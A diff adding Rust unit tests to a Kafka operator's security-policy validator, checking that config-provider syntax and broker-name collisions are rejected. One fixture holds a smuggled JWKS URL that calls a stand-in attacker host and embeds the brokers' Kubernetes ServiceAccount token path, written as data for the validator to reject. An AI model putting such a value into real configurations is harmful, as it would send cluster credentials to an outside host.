@@ -460,6 +460,8 @@ fn every_rule_is_reachable_and_named_in_its_message() {
         validate::one_per_cluster(&kms_spec, [("orders", &kms_spec)]),
         validate::cluster_ref_unchanged("CertificateRotation", &other, &kafka),
         validate::one_per_workload("CertificateRotation", &kafka, [("a", &kafka)]),
+        validate::security_policy(&smuggling_jwks(), None),
+        validate::security_policy(&client_named("orders-kafka", "app-tls"), None),
     ];
     let mut reached = BTreeSet::new();
     for result in refusals {
@@ -474,4 +476,46 @@ fn every_rule_is_reachable_and_named_in_its_message() {
     }
     let missed: Vec<_> = rule::ALL.iter().filter(|r| !reached.contains(*r)).collect();
     assert!(missed.is_empty(), "rules no case reaches: {missed:?}");
+}
+
+/// SASL/IAM whose key-set URL carries Kafka's config-provider syntax: the brokers would read
+/// their ServiceAccount token into the URL they fetch.
+fn smuggling_jwks() -> ClusterSecurityPolicySpec {
+    csp(
+        json!({"sasl": {"iam": {"enabled": true, "issuer": "https://issuer", "audience": "kafka",
+            "jwksEndpointUrl": "https://evil.example/k?t=${dir:/var/run/secrets/kubernetes.io/serviceaccount:token}"}}}),
+        "TLS",
+        true,
+    )
+}
+
+fn client_named(name: &str, secret: &str) -> ClusterSecurityPolicySpec {
+    csp(json!({"tls": {"enabled": true, "clients": [{"name": name, "secretName": secret}]}}), "TLS", true)
+}
+
+#[test]
+fn config_provider_syntax_never_reaches_server_properties() {
+    let err = validate::security_policy(&smuggling_jwks(), None).unwrap_err().to_string();
+    assert!(err.contains("PropertiesValueSyntax") && err.contains("sasl.iam.jwksEndpointUrl"), "{err}");
+    for field in ["issuer", "audience"] {
+        let mut spec = csp(method("iam"), "TLS", true);
+        let iam = spec.client_authentication.sasl.as_mut().unwrap().iam.as_mut().unwrap();
+        let value = if field == "issuer" { &mut iam.issuer } else { &mut iam.audience };
+        *value = Some("x${env:HOME}".into());
+        let err = validate::security_policy(&spec, None).unwrap_err().to_string();
+        assert!(err.contains("PropertiesValueSyntax") && err.contains(&format!("sasl.iam.{field}")), "{err}");
+    }
+    assert!(validate::security_policy(&csp(method("iam"), "TLS", true), None).is_ok(), "plain values pass");
+}
+
+#[test]
+fn a_client_never_gets_the_brokers_name_nor_another_clusters_object() {
+    for name in ["orders-kafka", "ORDERS-KAFKA"] {
+        let err = validate::security_policy(&client_named(name, "app-tls"), None).unwrap_err().to_string();
+        assert!(err.contains("ClientNotBroker") && err.contains("tls.clients[0].name"), "{err}");
+    }
+    let err =
+        validate::security_policy(&client_named("app", "other-kafka-internal-tls"), None).unwrap_err().to_string();
+    assert!(err.contains("TlsClients") && err.contains("-internal-tls"), "{err}");
+    assert!(validate::security_policy(&client_named("orders-app", "orders-app-tls"), None).is_ok());
 }
